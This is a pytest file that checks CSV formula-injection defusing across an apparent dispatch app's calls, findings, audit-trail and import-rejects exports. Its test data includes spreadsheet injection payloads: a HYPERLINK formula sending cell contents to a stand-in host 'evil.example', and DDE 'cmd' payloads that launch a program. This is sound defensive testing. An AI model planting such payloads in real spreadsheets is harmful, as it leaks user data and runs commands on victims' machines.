"""CSV formula injection: a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR is run by
spreadsheet programs, so every CSV Beacon writes defuses it (``beacon_core.csv_safe.cell``).

Every CSV path is here: the calls and findings exports (``exports/api``), the audit trail export
(``governance.views``) and the import's rejects report (``import_calls``). The findings export's
own case is in ``tests/api/test_exports.py`` and the audit trail's in
``tests/governance/test_audit_pages.py``; these add every starting character and every text
column.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from beacon_core.csv_safe import FORMULA_START, cell
from governance import audit
from governance.choices import AuditAction
from tests.dispatch.test_import_calls import run_import
from tests.tasking.conftest import make_finding

pytestmark = pytest.mark.django_db

PURPOSE = "monthly problem-oriented review with city council"
PAYLOADS = {
    "equals": '=HYPERLINK("http://evil.example/"&A1,"x")',
    "plus": "+SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _cells(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"))))


def _is_live(text: str) -> bool:
    return text.startswith(FORMULA_START)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_cell_defuses_every_formula_start(payload: str) -> None:
    defused = cell(payload)
    assert defused == "'" + payload
    assert not _is_live(defused)


def test_cell_leaves_ordinary_text_and_empty_values_alone() -> None:
    assert [cell(v) for v in ("1 Elm St", "", None, 42, "a=b")] == ["1 Elm St", "", "", "42", "a=b"]


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_calls_csv_defuses_every_free_text_column(client_for, make_call, payload: str) -> None:
    make_call(
        address=payload + " Main St",
        caller_name=payload,
        caller_phone=payload[:40],
        narrative=payload,
    )
    response = client_for("supervisor").get(f"/api/v1/exports/calls.csv?purpose={PURPOSE}")
    assert response.status_code == 200
    rows = _cells(b"".join(response.streaming_content))
    assert rows and {"caller_name", "address"} <= set(rows[0])
    for row in rows:
        live = {k: v for k, v in row.items() if isinstance(v, str) and _is_live(v)}
        # Coordinates are numbers, and negative ones are defused too (text in the sheet).
        assert not live, live


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_findings_csv_defuses_the_explanation(client_for, agency, payload: str) -> None:
    make_finding(agency, explanation=payload)
    response = client_for("analyst").get(f"/api/v1/exports/findings.csv?purpose={PURPOSE}")
    assert response.status_code == 200
    rows = _cells(b"".join(response.streaming_content))
    assert [row["explanation"] for row in rows] == ["'" + payload]


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_audit_trail_csv_defuses_user_typed_columns(client, cast, payload: str) -> None:
    audit.record(
        action=AuditAction.VIEW,
        actor=cast["dispatcher"],
        object_type="dispatch.call",
        object_id=payload,
        object_label=payload,
        justification=payload,
    )
    client.force_login(cast["auditor"])
    response = client.get("/governance/audit/export.csv")
    assert response.status_code == 200, response.status_code
    rows = _cells(b"".join(response.streaming_content))
    mine = [r for r in rows if r["object_label"].endswith(payload)]
    assert mine
    for row in mine:
        for column in ("object_id", "object_label"):
            assert row[column] == "'" + payload, (column, row[column])
        # The justification is stored stripped of surrounding whitespace, then defused.
        assert row["justification"] == "'" + payload.strip()


def test_import_rejects_report_defuses_cells_from_the_input(agency, tmp_path: Path) -> None:
    header = (
        "external_id,received_at,call_type,priority,address,latitude,longitude,disposition,source\n"
    )
    path = tmp_path / "calls.csv"
    path.write_text(header + '"=1+1",not-a-date,THEFT,3,1 Elm St,,,,\n', encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    run_import(path, rejects=str(rejects))
    with rejects.open(encoding="utf-8", newline="") as fh:
        rows: list[dict[str, Any]] = list(csv.DictReader(fh))
    assert rows[0]["external_id"] == "'=1+1"
    assert rows[0]["raw"].startswith("'=1+1")
    assert not any(_is_live(v) for row in rows for v in row.values())
